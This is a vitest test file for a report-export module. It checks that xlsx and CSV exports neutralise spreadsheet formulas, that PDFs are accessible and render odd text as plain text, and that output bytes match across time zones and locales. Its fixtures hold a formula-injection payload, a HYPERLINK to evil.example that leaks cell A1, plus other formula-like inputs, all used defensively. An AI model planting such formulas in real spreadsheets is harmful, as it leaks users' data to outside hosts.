import { execFile } from 'node:child_process'
import { promisify } from 'node:util'
import { inflateRawSync } from 'node:zlib'
import { extractText, getDocumentProxy } from 'unpdf'
import { expect, test } from 'vitest'
import { z } from 'zod'
import { exportFormatNames } from '@/lib/domain/report-exports/formats'
import { makeExportedReport } from '@/tests/setup/exported-report'
import { makeReportInputs } from '@/tests/setup/report-inputs'
import { writeExport } from './write-export'

/** The files of a ZIP archive, as text. Its entries state their sizes. */
function unzip(bytes: Uint8Array): Map<string, string> {
  const archive = Buffer.from(bytes)
  const files = new Map<string, string>()
  const end = archive.lastIndexOf('PK\u0005\u0006', undefined, 'latin1')
  let at = archive.readUInt32LE(end + 16)
  for (let left = archive.readUInt16LE(end + 10); left > 0; left -= 1) {
    const [method, packed, nameLength] = [
      archive.readUInt16LE(at + 10),
      archive.readUInt32LE(at + 20),
      archive.readUInt16LE(at + 28),
    ]
    const start = archive.readUInt32LE(at + 42)
    const from = start + 30 + archive.readUInt16LE(start + 26) + archive.readUInt16LE(start + 28)
    const content = archive.subarray(from, from + packed)
    files.set(
      archive.toString('utf8', at + 46, at + 46 + nameLength),
      (method === 0 ? content : inflateRawSync(content)).toString(),
    )
    at += 46 + nameLength + archive.readUInt16LE(at + 30) + archive.readUInt16LE(at + 32)
  }
  return files
}

const formula = '=HYPERLINK("http://evil.example?"&A1,"press")'
const inputs = makeReportInputs()
inputs.source.name = '=1+1 <b>&"\r\nx: y'
for (const document of inputs.documents) {
  document.title = '@SUM(A1)'
  for (const [place, claim] of (document.adjudication?.claims ?? []).entries())
    claim.exact = ['+1-1', '-2+3', formula, '\t=1', 'a\u0000b\uD800', 'x'.repeat(40_000)][place % 6] ?? ''
}
const bent = makeExportedReport(inputs)

test('a workbook has no formula, all words, and XML that can be read', async () => {
  const { bytes, fileName } = await writeExport(bent, 'xlsx')
  if (typeof bytes === 'string') throw new Error('no bytes')
  const files = unzip(bytes)
  const sheets = [...files].filter(([name]) => name.startsWith('xl/worksheets/sheet'))
  expect(sheets).toHaveLength(3)
  const all = [...files.values()].join('\n')
  for (const [, sheet] of sheets) expect(sheet).not.toMatch(/<f[ >]|t="str"/)
  expect(all).toContain('=HYPERLINK(')
  expect(all).toContain('(cut: a cell holds no more')
  expect(all).not.toContain('\u0000')
  expect(fileName).toMatch(/ report 2\.xlsx$/)
})

test('CSV begins with a byte order mark, and no cell begins a formula', async () => {
  const { bytes } = await writeExport(bent, 'csv')
  expect(String(bytes).startsWith('\uFEFF')).toBe(true)
  expect(String(bytes)).not.toMatch(/(^|[,"\n\t])[=+@-]/m)
  expect(String(bytes)).toContain(`'=HYPERLINK(`)
})

test('the PDF is tagged for screen readers, has every claim as text, and nothing of it is run as markup', async () => {
  const mixed = makeReportInputs({ documents: 3 })
  const words = ['#panic("x") $x$ *b* @a <c>', 'Łódź counted 40,000.', 'العدد هو ٤٠', '中文 \u0007', 'y'.repeat(10_000)]
  for (const document of mixed.documents) {
    for (const [place, claim] of (document.adjudication?.claims ?? []).entries()) claim.exact = words[place % 5] ?? ''
  }
  const { bytes } = await writeExport(makeExportedReport(mixed), 'pdf')
  if (typeof bytes === 'string') throw new Error('no bytes')
  expect(Buffer.from(bytes).toString('latin1')).toContain('pdfuaid:part')
  const { text } = await extractText(await getDocumentProxy(bytes), { mergePages: true })
  const plain = text.normalize('NFKC').replace(/\s+/gu, ' ')
  expect(plain).toContain('#panic("x") $x$ *b* @a <c>')
  expect(plain).toContain('Łódź counted 40,000.')
  // A character that no font has is printed as its number; where a font has it, it is printed as it is.
  expect(plain).toMatch(/中文|\[U\+4E2D\]\s?\[U\+6587\]/)
  expect(plain).toContain('[U+0007]')
  expect(plain.match(/y/g)?.length).toBeGreaterThan(10_000)
  expect(plain).toContain('lack some characters')
}, 30_000)

test('what cannot be written is refused in a sentence', async () => {
  await expect(writeExport({ ...bent, address: null }, 'claim-review')).rejects.toThrow('Publish the report')
})

const run = promisify(execFile)

/** The exports of the fixtures' reports, made in a process with another time zone and language. */
async function fingerprintsIn(zone: string, language: string) {
  const env = { ...process.env, TZ: zone, LANG: language, LC_ALL: language }
  const { stdout } = await run(process.execPath, ['--import', 'tsx', 'tests/setup/report-fingerprints.ts'], {
    env,
  })
  return z
    .object({ timeZone: z.string(), locale: z.string(), hashes: z.record(z.string(), z.string()) })
    .parse(JSON.parse(stdout))
}

test('every file has the same bytes in all time zones and languages', async () => {
  const [one, other, third] = await Promise.all([
    fingerprintsIn('Pacific/Apia', 'tr_TR.UTF-8'),
    fingerprintsIn('America/St_Johns', 'de_DE.UTF-8'),
    fingerprintsIn('Asia/Tehran', 'fa_IR.UTF-8'),
  ])
  expect([one, other, third].map(({ timeZone, locale }) => `${timeZone} ${locale}`)).toEqual([
    'Pacific/Apia tr-TR',
    'America/St_Johns de-DE',
    'Asia/Tehran fa-IR',
  ])
  expect(Object.keys(one.hashes)).toEqual(['bundle', ...exportFormatNames, 'records'])
  expect(other.hashes).toEqual(one.hashes)
  expect(third.hashes).toEqual(one.hashes)
}, 30_000)
